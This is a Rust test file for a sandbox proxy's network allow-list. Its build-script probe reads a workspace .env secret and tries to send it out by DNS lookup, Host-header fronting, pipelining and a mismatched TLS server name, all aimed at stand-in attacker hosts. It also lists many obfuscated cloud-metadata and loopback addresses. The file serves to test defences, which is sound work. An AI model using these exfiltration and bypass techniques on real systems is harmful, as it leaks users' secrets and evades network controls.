//! The way out is an allow-list (issue 29): in Ask mode a build script (`cargo build` runs
//! without a yes) talks to the sandbox's proxy as an attacker would, through `keyless apply`,
//! and each destination must meet the answer the allow-list gives: a name not on the list is
//! refused before any lookup (so no DNS query carries a secret out), a listed registry is
//! reached, a cloud metadata service is refused in every spelling even when any host is
//! allowed, an internal address only when the list covers it, and a plain request cannot name
//! another host in its `Host` header. `keyless status` (text and `--json`) and the first message
//! say what the proxy reaches, and where each entry came from.

use std::fs;
use std::process::Command;

use crate::sandbox::{World, cargo_crate, config};

/// A build script that sends each request of `probes.txt` (`label<TAB>request`, `\r\n` written
/// out, `SECRET` standing for the hex of the workspace's `.env`; `TLS host:port name` opens a
/// tunnel and says a TLS hello asking for `name` through it) to the proxy, and prints what came
/// back on one line per probe.
const PROBE: &str = r#"use std::io::{Read, Write};
fn say(s: &str) { for l in s.lines() { println!("cargo:warning={l}"); } }
fn ask(request: &str) -> String {
    let mut s = match std::net::TcpStream::connect(("127.0.0.1", 3128)) {
        Ok(s) => s,
        Err(e) => return format!("no proxy: {e}"),
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(25)));
    let _ = s.write_all(request.as_bytes());
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    // How the answer ended: the proxy closed, it kept the connection open, or a tunnel.
    let mut end = "closed";
    loop {
        match s.read(&mut buf) {
            Ok(0) => break,
            Err(_) => { end = "still open"; break }
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
        // A tunnel stays open once established: its head is the answer.
        if got.starts_with(b"HTTP/1.1 200") && got.windows(4).any(|w| w == b"\r\n\r\n") {
            end = "tunnel";
            break;
        }
    }
    format!("{} [{end}]", String::from_utf8_lossy(&got).replace("\r\n", " | "))
}
/// A TLS 1.2 ClientHello asking for `name`.
fn client_hello(name: &str) -> Vec<u8> {
    let mut body = vec![3, 3];
    body.extend([7u8; 32]);
    body.push(0);
    let suites: [u16; 6] = [0xc02f, 0xc030, 0xc02b, 0xc02c, 0x009c, 0x009d];
    body.extend(((suites.len() * 2) as u16).to_be_bytes());
    for s in suites { body.extend(s.to_be_bytes()); }
    body.extend([1, 0]);
    let n = name.len() as u16;
    let mut ext = vec![0, 0];
    ext.extend((n + 5).to_be_bytes());
    ext.extend((n + 3).to_be_bytes());
    ext.push(0);
    ext.extend(n.to_be_bytes());
    ext.extend(name.as_bytes());
    ext.extend([0, 10, 0, 6, 0, 4, 0, 29, 0, 23]);
    ext.extend([0, 11, 0, 2, 1, 0]);
    ext.extend([0, 13, 0, 8, 0, 6, 4, 1, 8, 4, 4, 3]);
    body.extend((ext.len() as u16).to_be_bytes());
    body.extend(ext);
    let mut message = vec![1];
    message.extend(&(body.len() as u32).to_be_bytes()[1..]);
    message.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend((message.len() as u16).to_be_bytes());
    record.extend(message);
    record
}
/// Opens a tunnel to `to` and says hello to `name` through it: what came back.
fn tls(to: &str, name: &str) -> String {
    let mut s = match std::net::TcpStream::connect(("127.0.0.1", 3128)) {
        Ok(s) => s,
        Err(e) => return format!("no proxy: {e}"),
    };
    let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(20)));
    let _ = s.write_all(format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes());
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match s.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => return format!("no tunnel: {}", String::from_utf8_lossy(&head)),
        }
    }
    let _ = s.write_all(&client_hello(name));
    let mut back = [0u8; 64];
    match s.read(&mut back) {
        Ok(0) => "closed".to_string(),
        Ok(n) => format!("answered {n} bytes, first {:#04x}", back[0]),
        Err(e) => format!("error {e}"),
    }
}
fn main() {
    println!("cargo:rerun-if-changed=probes.txt");
    let secret = std::fs::read_to_string(".env").unwrap_or_default();
    let hex: String = secret.bytes().take(24).map(|b| format!("{b:02x}")).collect();
    for line in std::fs::read_to_string("probes.txt").unwrap().lines() {
        let Some((label, request)) = line.split_once('\t') else { continue };
        let request = request.replace("SECRET", &hex).replace("\\r\\n", "\r\n");
        if let Some(tunnel) = request.strip_prefix("TLS ") {
            let (to, name) = tunnel.split_once(' ').unwrap();
            say(&format!("{label} => {}", tls(to, name)));
            continue;
        }
        say(&format!("{label} => {}", ask(&request)));
    }
}
"#;

/// Runs the probes through `keyless apply` in Ask mode with `sandbox` as keyless.json's
/// `Sandbox` section; returns keyless's output and each probe's answer by its label.
fn probe(world: &World, sandbox: &str, probes: &[(&str, &str)]) -> (String, Vec<(String, String)>) {
    // Every probe's answer in the result: no output cut in the middle.
    fs::write(
        world.ws.join("keyless.json"),
        format!(
            "{{ \"Limits\": {{ \"MaxCommandOutputChars\": 200000 }}, \"Sandbox\": {sandbox} }}\n"
        ),
    )
    .unwrap();
    let lines: Vec<String> = probes
        .iter()
        .map(|(label, request)| format!("{label}\t{request}"))
        .collect();
    fs::write(world.ws.join("probes.txt"), lines.join("\n") + "\n").unwrap();
    let out = world.attack_as_written("ask", &["cargo build --offline"]);
    let answers = probes
        .iter()
        .map(|(label, _)| {
            let marker = format!(" {label} => ");
            let answer = out
                .lines()
                .find_map(|l| l.split_once(&marker).map(|(_, a)| a.to_string()))
                .unwrap_or_else(|| panic!("no answer for {label}: {out}"));
            (label.to_string(), answer)
        })
        .collect();
    (out, answers)
}

fn answer<'a>(answers: &'a [(String, String)], label: &str) -> &'a str {
    &answers.iter().find(|(l, _)| l == label).unwrap().1
}

fn connect(host: &str) -> String {
    format!("CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n")
}

fn world_with_probe() -> World {
    let world = World::new();
    cargo_crate(&world.ws);
    fs::write(world.ws.join("build.rs"), PROBE).unwrap();
    world
}

#[test]
fn in_ask_mode_a_name_off_the_list_is_never_looked_up_and_a_registry_is_reached() {
    let world = world_with_probe();
    let exfil = connect("exfil-SECRET.keyless-test.invalid:443");
    let unlisted = connect("unlisted.keyless-test.invalid:443");
    let listed = connect("listed.keyless-test.invalid:443");
    let registry = connect("registry.npmjs.org:443");
    let metadata = connect("169.254.169.254:80");
    let example = connect("example.com:443");
    let fronted =
        "GET http://pypi.org/simple/ HTTP/1.1\\r\\nHost: attacker.keyless-test.invalid\\r\\n\\r\\n";
    // A second request on the same connection would reach the same front end unchecked (here
    // it names the same host, so that a server that answers it shows it got there).
    let pipelined = "GET http://pypi.org/simple/six/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\nGET /simple/six/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n";
    let (out, answers) = probe(
        &world,
        "{ \"NetworkAllow\": [\"listed.keyless-test.invalid\"] }",
        &[
            ("dns-exfil", &exfil),
            ("unlisted", &unlisted),
            ("listed", &listed),
            ("registry", &registry),
            ("metadata", &metadata),
            ("example", &example),
            ("fronted", fronted),
            ("pipelined", pipelined),
            ("hello-own", "TLS registry.npmjs.org:443 registry.npmjs.org"),
            (
                "hello-other",
                "TLS registry.npmjs.org:443 attacker.keyless-test.invalid",
            ),
        ],
    );
    // Neither name can resolve: the one off the list is refused without a lookup, the listed
    // one is looked up and fails there.
    for label in ["dns-exfil", "unlisted", "example"] {
        let got = answer(&answers, label);
        assert!(got.starts_with("HTTP/1.1 403"), "{label}: {got}");
        assert!(
            got.contains("not on the allow-list, so not even looked up"),
            "{label}: {got}"
        );
    }
    let listed = answer(&answers, "listed");
    assert!(listed.starts_with("HTTP/1.1 502"), "{listed}");
    assert!(!listed.contains("allow-list"), "{listed}");
    // The registry on the built-in list is reached (on this machine, a mirror its DNS names).
    let registry = answer(&answers, "registry");
    assert!(
        registry.starts_with("HTTP/1.1 200 Connection established"),
        "{registry}"
    );
    let metadata = answer(&answers, "metadata");
    assert!(
        metadata.starts_with("HTTP/1.1 403")
            && metadata.contains("an address no entry of the allow-list covers"),
        "{metadata}"
    );
    let fronted = answer(&answers, "fronted");
    assert!(
        fronted.starts_with("HTTP/1.1 403") && fronted.contains("Host header names another host"),
        "{fronted}"
    );
    // One answer, and the connection ends with it: nothing more goes to that server.
    let pipelined = answer(&answers, "pipelined");
    assert_eq!(pipelined.matches("HTTP/1.1 ").count(), 1, "{pipelined}");
    assert!(pipelined.ends_with("[closed]"), "{pipelined}");
    // Through a tunnel to an allowed host, a TLS hello must ask for that host: asking the same
    // front end for another site closes the tunnel before the hello reaches it.
    let own = answer(&answers, "hello-own");
    assert!(own.starts_with("answered"), "{own}");
    let other = answer(&answers, "hello-other");
    assert_eq!(other, "closed", "{out}");
    assert!(
        out.contains("its TLS server name is another host (\"attacker.keyless-test.invalid\")"),
        "{out}"
    );
    // The command's result says what was refused, why, and the key that allows it.
    assert!(
        out.contains("keyless's proxy refused exfil-") && out.contains("keyless.json adds a host"),
        "{out}"
    );
    assert!(
        out.contains("keyless's proxy refused") && out.contains("169.254.169.254:80 (an address"),
        "{out}"
    );
}

#[test]
fn metadata_services_are_refused_in_every_spelling_even_when_any_host_is_allowed() {
    let world = world_with_probe();
    let spellings = [
        "169.254.169.254:80",
        "169.254.43518:80",
        "0xa9fea9fe:80",
        "2852039166:80",
        "0251.0376.0251.0376:80",
        "[::ffff:169.254.169.254]:80",
        "[::ffff:a9fe:a9fe]:80",
        "[::a9fe:a9fe]:80",
        "[64:ff9b::a9fe:a9fe]:80",
        "[64:ff9b:1::a9fe:a9fe]:80",
        "[2002:a9fe:a9fe::1]:80",
        "[2001:0:4136:e378:8000:63bf:5601:5601]:80",
        "100.100.100.200:80",
        "[64:ff9b::6464:64c8]:80",
        "169.254.170.2:80",
        "192.0.0.192:80",
        "168.63.129.16:80",
        "[fd00:ec2::254]:80",
        "[fe80::a9fe:a9fe]:80",
        "localhost:80",
        "127.1:80",
        "0x7f.1:80",
        "[::1]:80",
    ];
    let requests: Vec<(String, String)> = spellings
        .iter()
        .enumerate()
        .map(|(i, s)| (format!("never-{i}"), connect(s)))
        .chain([
            ("internal".to_string(), connect("10.0.0.1:80")),
            ("covered".to_string(), connect("192.0.2.1:80")),
            (
                "looked-up".to_string(),
                connect("exfil-SECRET.keyless-test.invalid:443"),
            ),
            ("registry".to_string(), connect("registry.npmjs.org:443")),
        ])
        .collect();
    let probes: Vec<(&str, &str)> = requests
        .iter()
        .map(|(l, r)| (l.as_str(), r.as_str()))
        .collect();
    let (out, answers) = probe(
        &world,
        "{ \"NetworkAllow\": [\"*\", \"192.0.2.0/24\"] }",
        &probes,
    );
    for (i, spelling) in spellings.iter().enumerate() {
        let got = answer(&answers, &format!("never-{i}"));
        assert!(
            got.starts_with("HTTP/1.1 403") && got.contains("which commands never reach"),
            "{spelling}: {got}"
        );
    }
    let internal = answer(&answers, "internal");
    assert!(
        internal.starts_with("HTTP/1.1 403")
            && internal.contains("a private network address, reachable only when"),
        "{internal}"
    );
    // A documentation address the list covers is tried (nothing answers there: no 403).
    assert!(
        !answer(&answers, "covered").starts_with("HTTP/1.1 403"),
        "{out}"
    );
    // Any host: a name is looked up (and this one fails there).
    assert!(
        answer(&answers, "looked-up").starts_with("HTTP/1.1 502"),
        "{out}"
    );
    assert!(
        answer(&answers, "registry").starts_with("HTTP/1.1 200"),
        "{out}"
    );
    assert!(
        out.contains("cloud metadata service (Alibaba Cloud)"),
        "{out}"
    );
}

/// `keyless` run with the world's fake home and `env`.
fn keyless(world: &World, args: &[&str], env: &[(&str, &str)]) -> String {
    let mut command = Command::new(env!("CARGO_BIN_EXE_keyless"));
    command
        .args(args)
        .arg("--workspace")
        .arg(&world.ws)
        .env("HOME", &world.home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("npm_config_registry")
        .env_remove("PIP_INDEX_URL");
    for (k, v) in env {
        command.env(k, v);
    }
    let out = command.output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr)
}

#[test]
fn status_and_the_first_message_say_what_the_proxy_reaches_and_where_each_host_came_from() {
    let world = World::new();
    fs::write(
        world.home.join(".npmrc"),
        "registry=https://npm.corp.example/\n",
    )
    .unwrap();
    // A project's own settings are the model's to write: never read.
    fs::write(
        world.ws.join(".npmrc"),
        "registry=https://planted.example/\n",
    )
    .unwrap();
    fs::write(
        world.ws.join("keyless.json"),
        config(", \"Sandbox\": { \"NetworkAllow\": [\"*.lan.example\", \"10.0.0.0/8\"] }"),
    )
    .unwrap();
    let env = [("PIP_INDEX_URL", "https://pypi.corp.example/simple")];
    let json = keyless(&world, &["status", "--json", "--mode", "ask"], &env);
    let report: serde_json::Value = serde_json::from_str(json.trim()).unwrap();
    assert_eq!(report["network"], "proxy", "{report}");
    let entries = report["network_allow"].as_array().unwrap();
    let from = |host: &str| {
        entries
            .iter()
            .find(|e| e["host"] == host)
            .map(|e| e["from"].as_str().unwrap().to_string())
    };
    assert_eq!(
        from("registry.npmjs.org").as_deref(),
        Some("built in (JavaScript: npm, yarn, pnpm, bun; node-gyp's headers)")
    );
    assert_eq!(
        from("npm.corp.example"),
        Some(format!(
            "npm's settings ({})",
            world.home.join(".npmrc").display()
        ))
    );
    assert_eq!(
        from("pypi.corp.example").as_deref(),
        Some("pip's settings ($PIP_INDEX_URL)")
    );
    assert_eq!(
        from("*.lan.example").as_deref(),
        Some("keyless.json Sandbox.NetworkAllow")
    );
    assert_eq!(
        from("10.0.0.0/8").as_deref(),
        Some("keyless.json Sandbox.NetworkAllow")
    );
    assert_eq!(from("planted.example"), None, "{report}");

    let text = keyless(&world, &["status", "--mode", "ask"], &env);
    assert!(
        text.contains("network: only through keyless's proxy, which reaches these hosts"),
        "{text}"
    );
    assert!(
        text.contains("keyless.json Sandbox.NetworkAllow: *.lan.example, 10.0.0.0/8"),
        "{text}"
    );
    // The first message names the hosts keyless and keyless.json give, and counts the user's
    // own tools' registries without naming them to the chat site.
    let first = keyless(&world, &["prompt", "a task"], &env);
    assert!(
        first.contains("reaches only these hosts")
            && first.contains("crates.io, index.crates.io")
            && first
                .contains("*.lan.example, 10.0.0.0/8, and 2 registries your tools' settings name")
            && first.contains("refused without being looked up"),
        "{first}"
    );
    assert!(
        !first.contains("npm.corp.example") && !first.contains("planted.example"),
        "{first}"
    );

    // `NetworkAllowOnly` replaces the built-in list and the tools' registries.
    fs::write(
        world.ws.join("keyless.json"),
        config(", \"Sandbox\": { \"NetworkAllowOnly\": [\"crates.io\"] }"),
    )
    .unwrap();
    let json = keyless(&world, &["status", "--json", "--mode", "ask"], &env);
    let report: serde_json::Value = serde_json::from_str(json.trim()).unwrap();
    assert_eq!(
        report["network_allow"],
        serde_json::json!([{ "host": "crates.io", "from": "keyless.json Sandbox.NetworkAllowOnly" }])
    );
    let text = keyless(&world, &["status", "--mode", "auto"], &env);
    assert!(text.contains("network: off in this mode"), "{text}");
}
